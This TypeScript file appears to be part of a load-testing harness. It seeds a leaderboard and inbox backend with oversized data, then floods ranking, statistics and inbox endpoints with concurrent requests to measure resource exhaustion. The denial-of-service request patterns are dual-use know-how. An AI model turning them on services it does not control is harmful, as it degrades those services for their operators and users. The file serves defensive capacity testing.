import type { Attack } from '../attack.ts'
import { APP_OF_VICTIM, type Victim } from '../victim.ts'

const BOARDS = '/1.1/leaderboard/leaderboards'
const MEMBERS = 1000
/** Leaderboards whose statistics are included in a ranking. */
const AROUND = 20
/** Members of the large class, and characters of each. */
const LARGE_MEMBERS = 60
const LARGE = 100_000

async function makeBoard(victim: Victim, statisticName: string, memberType: string): Promise<void> {
  const body = { statisticName, memberType, versionChangeInterval: 'never' }
  // A repeated run finds it already created.
  await victim.requestAsMaster('POST', BOARDS, body).catch(() => {})
}

/** Fills the leaderboards with a name prefix by SQL, for speed. */
async function fillBoards(victim: Victim, names: string, members: string): Promise<void> {
  const schema = `"app_${APP_OF_VICTIM.appId}"`
  await victim.query(
    `INSERT INTO ${schema}."$statistics" (board, version, member, score, reached)
     SELECT board, version, member, -random() * 1000, nextval('${schema}."$statistics_reached"')
     FROM ${schema}."$leaderboards", (${members}) AS members (member)
     WHERE name LIKE $1
     ON CONFLICT DO NOTHING`,
    [`${names}%`],
  )
}

/** Attacks with the largest rankings and inboxes. */
export const RANKING_ATTACKS: readonly Attack[] = [
  {
    name: 'wide-rankings',
    what: `rankings of ${MEMBERS} members with their statistics of ${AROUND} other boards`,
    fill: async (victim) => {
      for (let n = 0; n <= AROUND; n++) await makeBoard(victim, `wide_${n}`, '_Entity')
      await fillBoards(victim, 'wide_', `SELECT 'm' || n FROM generate_series(1, ${MEMBERS}) AS n`)
    },
    run: (attacker) =>
      attacker.flood(16, (n) =>
        attacker.get(`${BOARDS}/entity/wide_0/ranks`, {
          includeStatistics: Array.from({ length: AROUND }, (_, m) => `wide_${m + 1}`).join(','),
          maxResultsCount: String(MEMBERS),
          startPosition: String(n % 3),
        }),
      ),
  },
  {
    name: 'large-members',
    what: 'rankings and statistics that show members of 100 KB',
    fill: async (victim) => {
      const ids: string[] = []
      for (let n = 0; n < LARGE_MEMBERS; n++) {
        const body = { n, text: 'x'.repeat(LARGE) }
        const { objectId } = await victim.requestAsMaster<{ objectId: string }>(
          'POST',
          '/1.1/classes/LargeMember',
          body,
        )
        ids.push(objectId)
      }
      for (let n = 0; n < LARGE_MEMBERS; n++) await makeBoard(victim, `large_${n}`, 'LargeMember')
      const list = ids.map((id) => `('${id}')`).join(', ')
      await fillBoards(victim, 'large_', `VALUES ${list}`)
    },
    run: (attacker) =>
      attacker.flood(16, async (n) => {
        const { text } = await attacker.get(`${BOARDS}/object/large_${n % LARGE_MEMBERS}/ranks`, {
          selectKeys: 'text',
          maxResultsCount: '1000',
        })
        const id = /"objectId":"(\w+)"/.exec(text.slice(0, 1000))?.[1]
        if (id) await attacker.get(`/1.1/leaderboard/objects/${id}/statistics`, { selectKeys: 'text' })
      }),
  },
  {
    name: 'full-inboxes',
    what: 'pages of an inbox of almost 6 MB',
    prepare: async (attacker) => {
      const username = `inbox-${process.pid}`
      const user = await attacker.request({ path: '/1.1/users', body: { username, password: 'own password' } })
      const session = String(user.sessionToken)
      const owner = { __type: 'Pointer', className: '_User', objectId: user.objectId }
      const query = { className: '_User', where: { objectId: user.objectId } }
      for (let n = 0; n < 50; n++) {
        const body = { query, data: { source: owner, text: 'x'.repeat(120_000) }, inboxType: 'default' }
        await attacker.request({ path: '/1.1/statuses', body, headers: { 'X-LC-Session': session } })
      }
      sessions.set(attacker, session)
    },
    run: (attacker) =>
      attacker.flood(16, () =>
        attacker.get('/1.1/subscribe/statuses', { limit: '100' }, { 'X-LC-Session': sessions.get(attacker)! }),
      ),
  },
]

const sessions = new WeakMap<object, string>()
